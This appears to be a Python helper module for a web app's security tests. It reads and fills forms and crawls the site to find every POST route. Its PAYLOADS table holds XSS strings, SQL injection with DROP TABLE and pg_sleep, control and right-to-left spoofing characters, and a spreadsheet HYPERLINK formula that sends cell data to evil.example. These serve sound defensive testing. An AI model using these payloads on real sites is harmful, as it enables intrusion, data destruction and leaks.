"""Hostile text and the tools the hostile-input tests share: reading the forms on a page,
filling them, and walking the site as one account to find every form it is offered."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

# A marker that must never appear raw in a page: if it did, a browser would run it.
SCRIPT = '<script>alert("voices-xss")</script>'
IMAGE = '<img src=x onerror=alert("voices-xss")>'
RAW_MARKERS = (SCRIPT, IMAGE, "<svg/onload=")

PAYLOADS = {
    "html": f'{SCRIPT}{IMAGE}"><svg/onload=alert(1)> &amp; {{{{7*7}}}}',
    "sql": "x'); DROP TABLE account; -- \" OR '1'='1'; SELECT pg_sleep(5)--",
    "huge": "A" * 1_000_000 + SCRIPT,
    "control": "bell\x07 nul\x00 esc\x1b[31m del\x7f vt\x0b ff\x0c \x1f end",
    "rtl": "\u202egnp.exe\u202c \u200f\u2066isolate\u2069 \u200b zero-width \ufeff bom \U0001F600",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
}


def raw_markers(text: str) -> list[str]:
    """The hostile markers that appear unescaped in ``text``."""
    return [m for m in RAW_MARKERS if m in text]


@dataclass
class Field:
    name: str
    kind: str  # text, hidden, choice, file
    value: str = ""
    options: list[str] = field(default_factory=list)


@dataclass
class Form:
    action: str
    enctype: str
    fields: list[Field] = field(default_factory=list)

    def data(self, payload: str | None, *, tamper: bool = False) -> dict[str, list[str]]:
        """The form's fields filled in: free text with ``payload`` (or a plain answer when
        None), choices with their first offered value (or ``payload`` too when
        ``tamper``), hidden fields kept (or replaced when ``tamper``); files are left out."""
        data: dict[str, list[str]] = {}
        for f in self.fields:
            if f.kind == "file":
                continue
            if f.name == "csrf_token":
                value = f.value
            elif f.kind == "text" and f.name.endswith("_hp"):
                value = payload if tamper and payload is not None else ""  # the bot trap
            elif f.kind == "text":
                value = plain_answer(f) if payload is None else payload
            elif f.kind == "hidden":
                value = payload if tamper and payload is not None else f.value
            else:
                offered = [o for o in f.options if o] or [""]
                value = payload if tamper and payload is not None else offered[0]
            if f.name in data and f.kind == "choice" and not tamper:
                continue  # one answer for a group of radios or checkboxes
            data.setdefault(f.name, []).append(value)
        return data


def plain_answer(f: Field) -> str:
    name = f.name.lower()
    if "email" in name:
        return "someone@example.org"
    if "password" in name:
        return "a long enough pass phrase 42"
    if "date" in name or name in ("day", "start", "end"):
        return "2026-01-15"
    if any(word in name for word in ("hours", "amount", "number", "count", "size", "seed",
                                     "year", "minutes", "weeks", "target", "places")):
        return "3"
    return f.value or "Fine, thank you"


class _FormReader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self.links: list[str] = []
        self._select: Field | None = None
        self._textarea: Field | None = None
        self._form: Form | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v or "") for k, v in attrs}
        if tag == "a" and a.get("href", "").startswith("/"):
            self.links.append(a["href"].split("#")[0])
        elif tag == "form":
            if a.get("method", "get").lower() == "post":
                self._form = Form(a.get("action", ""), a.get("enctype", ""))
                self.forms.append(self._form)
            else:
                self._form = None
        elif self._form is None:
            return
        elif tag == "input" and a.get("name"):
            kind = a.get("type", "text").lower()
            if kind in ("submit", "button", "image", "reset"):
                return
            if kind in ("radio", "checkbox"):
                self._form.fields.append(Field(a["name"], "choice", options=[a.get("value",
                                                                                      "on")]))
            elif kind in ("hidden", "file"):
                self._form.fields.append(Field(a["name"], kind, a.get("value", "")))
            else:
                self._form.fields.append(Field(a["name"], "text", a.get("value", "")))
        elif tag == "button" and a.get("name"):
            self._form.fields.append(Field(a["name"], "choice", options=[a.get("value", "")]))
        elif tag == "textarea" and a.get("name"):
            self._textarea = Field(a["name"], "text")
            self._form.fields.append(self._textarea)
        elif tag == "select" and a.get("name"):
            self._select = Field(a["name"], "choice")
            self._form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            self._select.options.append(a.get("value", ""))

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "form":
            self._form = None


def read_page(html: str) -> tuple[list[Form], list[str]]:
    """The POST forms and the site links on a page."""
    reader = _FormReader()
    reader.feed(html)
    return reader.forms, reader.links


def route_matcher(paths):
    """A function giving the route template (``/f/{slug}``) a concrete path belongs to."""
    compiled = [(p, re.compile(re.sub(r"\\{\w+\\}", "[^/]+", re.escape(p)))) for p in paths]

    def match(path: str) -> str | None:
        path = path.split("?")[0]
        return next((p for p, rx in compiled if rx.fullmatch(path)), None)

    return match


SKIPPED_LINKS = ("/assets", "/static", "/logout", "/docs", "/api/")
DOWNLOADS = (".csv", ".xlsx", ".zip", ".png", ".svg", ".txt", ".pdf", ".docx", ".md",
             ".json", "/file", "/export")


def crawl(client, start: list[str], page_route, form_route, *, per_route: int = 2,
          limit: int = 250) -> dict[str, tuple[str, Form]]:
    """Walk the site from ``start`` as ``client`` (at most ``per_route`` pages of each GET
    route) and give, for every POST route whose form it is offered, a page and the form."""
    seen_pages: set[str] = set()
    per: dict[str, int] = {}
    found: dict[str, tuple[str, Form]] = {}
    todo = list(start)
    while todo and len(seen_pages) < limit:
        url = todo.pop(0)
        if url in seen_pages or url.startswith(SKIPPED_LINKS) or \
                url.split("?")[0].endswith(DOWNLOADS):
            continue
        template = page_route(url) or url
        if per.get(template, 0) >= per_route:
            continue
        per[template] = per.get(template, 0) + 1
        seen_pages.add(url)
        page = client.get(url)
        if "text/html" not in page.headers.get("content-type", ""):
            continue
        forms, links = read_page(page.text)
        for form in forms:
            route = form_route(form.action or url)
            if route and route not in found:
                found[route] = (url, form)
        todo.extend(link for link in links if link not in seen_pages)
    return found


def row_counts(site) -> dict[str, int]:
    """How many rows each table of a demo site holds (sessions, jobs and the audit log,
    which reading pages adds to, aside): a refused request must not change any."""
    from sqlalchemy import inspect, text

    with site.database.engine.connect() as conn:
        tables = [t for t in inspect(conn).get_table_names()
                  if t not in ("web_session", "audit_event", "job")]
        return {t: conn.execute(text(f'SELECT count(*) FROM "{t}"')).scalar() for t in tables}
